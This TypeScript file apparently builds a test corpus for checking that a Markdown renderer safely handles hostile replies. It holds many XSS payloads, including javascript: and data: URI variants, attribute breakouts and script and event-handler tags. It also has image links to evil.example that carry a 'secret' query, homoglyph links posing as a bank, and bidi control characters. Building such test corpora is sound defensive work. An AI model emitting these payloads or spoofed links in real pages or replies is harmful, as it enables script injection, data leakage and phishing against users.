/** Payloads, made by crossing what attackers vary: scheme, spelling, encoding, place. Each is a reply of its own. */

const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#9;script:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)', '\\javascript:alert(1)', '\u0001javascript:alert(1)', '&#1;javascript:alert(1)', '&#0;javascript:alert(1)', ' javascript:alert(1)',
  'javascript\\:alert(1)', 'javascript://example.com/%0aalert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x', 'data&colon;text/html,x', 'data:image/svg+xml,<svg onload=alert(1)>', 'file:///etc/passwd', 'blob:https://example.com/1', 'filesystem:http://example.com/x', 'about:blank', 'view-source:http://example.com',
  'chrome://settings', 'ms-settings:', 'intent://x#Intent;end', 'feed:javascript:alert(1)', 'jar:http://x!/', 'ws://example.com', 'ftp://example.com/x', 'livescript:alert(1)', 'mocha:alert(1)', 'x-javascript:alert(1)',
  'javascript&#x3A;alert(1)', 'javascript&#0000058alert(1)', 'javas&#99;ript:alert(1)', '\u2028javascript:alert(1)', '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', 'javascript\u200b:alert(1)', '\u202ejavascript:alert(1)',
]; // prettier-ignore

const places: ((target: string) => string)[] = [
  (target) => `[click](${target})`,
  (target) => `[click](<${target}>)`,
  (target) => `[click][x]\n\n[x]: <${target}>`,
  (target) => `![image](<${target}>)`,
  (target) => `<${target}>`,
];

/** What the repairs of links open: addresses with spaces, and what stands beside a bare URL. */
const repairedLinks = [
  '[a](javascript:alert(1) b)', '[a](/ javascript:alert(1))', '[a](https://example.com/a b"onmouseover="alert(1))', '[a](//example.com/a b "t\\" onmouseover=alert(1)")', '![a](https://evil.example/a b.png)', '![a](/x y.png "t")', '![a]()', '![a](#x)', '[a]() [b](#javascript:alert(1))',
  '[1][2]\n\n[1]: javascript:alert(1)\n[2]: https://example.com', '[1][2]\n\n[1]: <data:text/html,x>\n[2]: javascript:alert(1)', 'https://example.com，javascript:alert(1)', 'https://example.com的javascript:alert(1)', 'https://example.com“onmouseover=”alert(1)', '（www.example.com＠evil.example）', "https://example.com'onmouseover='alert(1)",
]; // prettier-ignore

const breakouts = [
  '[a](https://example.com/"onmouseover="alert(1))', "[a](https://example.com/'onmouseover='alert(1))", '[a](https://example.com "t\\" onmouseover=alert(1) x=\\"")', '[a](https://example.com \'"><img src=x onerror=alert(1)>\')',
  '![a"onerror="alert(1)](https://evil.example/x.png)', '![a](https://evil.example/x.png "t\\"onload=\\"alert(1)")', '<https://example.com/"onclick="alert(1)>', '```js"onload="alert(1)\nx\n```', '```{.js"onload="alert(1)}\nx\n```', '```x:"><img/src=x/onerror=alert(1)>\nx\n```', 'Run: ```js"onload="alert(1)\nx\n```', '- ```js\nx\n<script>alert(1)</script>\n```\n<script>alert(1)</script>', '| a | b |\n|-|-|\n| `x|<img src=x onerror=alert(1)>` | $<svg onload=alert(1)>|$ |', "```'><img src=x onerror=alert(1)>\nx\n```",
  '``` "><script>alert(1)</script>\nx\n```', '# h {#id onclick=alert(1)}', '[a]{onclick=alert(1)}(https://example.com)', '| a |\n| :-: onclick=alert(1) |\n', '1. a\n\n- [x" onclick="alert(1)] b', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)</script>', '`<script>alert(1)</script>`', '**<script>alert(1)</script>**', '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |', '> <script>alert(1)</script>', '- <iframe src=javascript:alert(1)>',
  '[<img src=x onerror=alert(1)>](https://example.com)', '![<img src=x onerror=alert(1)>](https://evil.example/x.png)', '[a](https://example.com)<style>*{display:none}</style>', '<http://example.com/><script>alert(1)</script>',
  '[x]: https://example.com "<script>alert(1)</script>"\n\n[x]', '~~~ {.js onclick=alert(1)}\nx\n~~~', 'www.example.com/<script>alert(1)</script>', 'https://example.com/"><script>alert(1)</script>', 'a@example.com"><script>alert(1)</script>',
]; // prettier-ignore

const html = [
  '<script>alert(1)</script>', '<script src=https://evil.example/x.js></script>', '<img src=https://evil.example/x.png>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe src=https://evil.example>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<object data=https://evil.example/x.swf>', '<embed src=https://evil.example/x.swf>', '<link rel=stylesheet href=https://evil.example/x.css>', '<link rel=prefetch href=https://evil.example>',
  '<style>@import "https://evil.example/x.css"</style>', '<style>*{background:url(https://evil.example)}</style>', '<div style="background:url(https://evil.example)">x</div>', '<base href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input type=submit></form>', '<input autofocus onfocus=alert(1)>', '<button formaction=javascript:alert(1)>x</button>', '<video src=https://evil.example/x.mp4 autoplay>', '<video poster=https://evil.example/x.png>', '<audio src=https://evil.example/x.mp3 autoplay>',
  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<body onload=alert(1)>', '<a href=javascript:alert(1)>x</a>', '<a href=https://evil.example ping=https://evil.example/p>x</a>', '<math><mtext><script>alert(1)</script></mtext></math>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example">]>', '<img srcset="https://evil.example/x.png 1x">', '<picture><source srcset=https://evil.example/x.png></picture>', '<input type=image src=https://evil.example/x.png>', '<table background=https://evil.example/x.png>', '<slot name=header></slot>',
  '<div popover id=x></div><button popovertarget=x>', '<div id=location></div>', '<a name=cookie>', '<form name=body>', '<portal src=https://evil.example>', '<fencedframe src=https://evil.example>', '<dialog open>x</dialog>', '<x onclick=alert(1)>', '<custom-element is=x>', '<plaintext>',
  '<b onclick=alert(1)>x</b>', '<b style=position:fixed>x</b>', '<br onload=alert(1)>', '<details open ontoggle=alert(1)>\nx\n</details>', '<details>\n<summary onclick=alert(1)>x</summary>\n</details>', '<details>\n<summary><img src=https://evil.example onerror=alert(1)></summary>\n<script>alert(1)</script>\n\n<iframe srcdoc=x>\n</details>',
  '<!--><img src=https://evil.example onerror=alert(1)>-->', '<!-- --!><script>alert(1)</script> -->', '<!-- <b><script>alert(1)</script> --> <b><script>alert(1)</script></b>', '<sub><sup><small><style>*{}</style></small></sup></sub>', '<b\n onclick=alert(1)>x</b>', '<b/onclick=alert(1)>x</b>', '<mark><base href=https://evil.example></mark>', '<details>\n<summary>[x](javascript:alert(1))</summary>\n\n![x](https://evil.example/x.png)\n</details>',
  '<kbd><a href="javascript:alert(1)">x</a></kbd>', '| <b>a |\n| - |\n| b</b><img src=https://evil.example> |', '<s><a name=body>x</s></a>', '<u><form></u><input name=action></form>',
  '<textarea autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<frameset onload=alert(1)>', '<isindex action=javascript:alert(1)>', '<bgsound src=https://evil.example>',
]; // prettier-ignore

const images = [
  '![x](https://evil.example/?q=secret)', '![](https://evil.example/pixel.gif)', '![x](//evil.example/x.png)', '![x](https:\\\\evil.example/x.png)', '![x](/local.png?q=secret)', '![x](x.png)', '![x][e]\n\n[e]: https://evil.example/x.png', '[![x](https://evil.example/x.png)](https://evil.example)',
  '![![x](https://evil.example/a.png)](https://evil.example/b.png)', '![x](<https://evil.example/x y.png> "t")', '![x](HTTPS://EVIL.EXAMPLE/x.png)', '![x](https://allowed.example@evil.example/x.png)', '![x](https://allowed.example.evil.example/x.png)', '![x](https://evilallowed.example/x.png)',
  '![x](https://evil.example#allowed.example)', '![x](https://evil.example\\@allowed.example/x.png)', '![x](https://allowed.example\\\\@evil.example/x.png)', '![x](<https://allowed.example\\\\:x@evil.example/x.png>)', '![x](http://[::1]/x.png)', '![x](http://0x7f.1/x.png)', '| a |\n| - |\n| ![x](https://evil.example/x.png) |', '- ![x](https://evil.example/x.png)', '# ![x](https://evil.example/x.png)',
  '![*x*](https://evil.example/x.png)', '![x](https&colon;//evil.example/x.png)', '![x](https://evil.example/&#120;.png)', '![x](ht\ntps://evil.example/x.png)', '![x](<ht\ttps://evil.example/x.png>)', '![x](https://%65vil.example/x.png)', '![x](https://evil。example/x.png)', '![x](tel:1)', '![x](mailto:a@b.c)',
]; // prettier-ignore

/** Links whose text claims another host than they lead to. */
export const misleading = [
  '[https://bank.example](https://evil.example)', '[bank.example](https://evil.example)', '[www.bank.example/login](https://evil.example/login)', '[**bank.example**](https://evil.example)', '[`bank.example`](https://evil.example)', '[Go to bank.example now](https://evil.example)',
  '[HTTPS://BANK.EXAMPLE](https://evil.example)', '[bank。example](https://evil.example)', '[bank．example](https://evil.example)', '[ｂａｎｋ.example](https://evil.example)', '[bank.example](https://bank.example.evil.example)', '[bank.example](https://evil.example/bank.example)',
  '[bank.example](https://bank.example@evil.example)', '[bank.example](https://bank.example\\\\@evil.example)', '<https://bank.example\\@evil.example>', 'https://bank.example\\@evil.example/', '[bank.example](//evil.example)', '[bank\u200b.example](https://evil.example)', '[b\u00adank.example](https://evil.example)', '[bank.example][e]\n\n[e]: https://evil.example', '[![bank.example](https://x.example/i.png)](https://evil.example)',
  '[192.168.0.1](https://evil.example)', 'https://bank.example@evil.example/', '[b\u0430nk.example](https://xn--bnk-6cd.example)', 'https://b\u0430nk.example/', 'https://b\u12d0nk.example/', '[bank\u2024example](https://evil.example)', '[bank\ufe52example](https://evil.example)', '[bank\ufff9.example](https://evil.example)', '[https:///bank.example](https://evil.example)', '<https://b\u0430nk.example/>', '[bank.com.](https://evil.example)', '[bank&period;example](https://evil.example)', '[https://bank.example:443](https://evil.example)',
  '[bank<sub>.</sub>example](https://evil.example)', '[bank<b>.example</b>](https://evil.example)', '[ba<i>nk.exa</i>mple](https://evil.example)', '[bank<!-- x -->.example](https://evil.example)', 'bank<b>[.example](https://evil.example)</b>', '[bank](https://evil.example)<u>.example</u>', '<s>[bank.example](https://evil.example)</s>',
  '[bank.example<small>.evil.example</small>](https://bank.example.evil.example)', '[bank.example<sub><sub><sub>.evil.example</sub></sub></sub>](https://bank.example.evil.example)', '<details>\n<summary>[bank.example](https://evil.example)</summary>\n</details>', '<details>\n\n[bank.example](https://evil.example)\n</details>', '| x |\n| - |\n| [bank.example<br>](https://evil.example) |',
]; // prettier-ignore

const controls = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u{e0001}',
  '\u{e0041}',
  '\u{e007f}',
  '\u{e0100}',
  '\u{e01ef}',
  '\u0000',
  '\u0007',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
];
const controlPlaces: ((control: string) => string)[] = [
  (control) => `a${control}b`,
  (control) => `**a${control}b** [l${control}](https://example.com "t${control}")`,
  (control) => `\`a${control}b\` ![a${control}b](https://evil.example/x.png "t${control}")`,
  (control) => `\`\`\`l${control}\na${control}b\n\`\`\``,
  (control) => `<div>${control}</div>\n\n| ${control} |\n| - |\n| ${control} |`,
  (control) => `&#${control.codePointAt(0) ?? 0};x &#x${(control.codePointAt(0) ?? 0).toString(16)};`,
];

export const payloads: readonly string[] = [
  ...schemes.flatMap((scheme) => places.map((place) => place(scheme))),
  ...repairedLinks,
  ...breakouts,
  ...html,
  ...images,
  ...misleading,
  ...controls.flatMap((control) => controlPlaces.map((place) => place(control))),
];
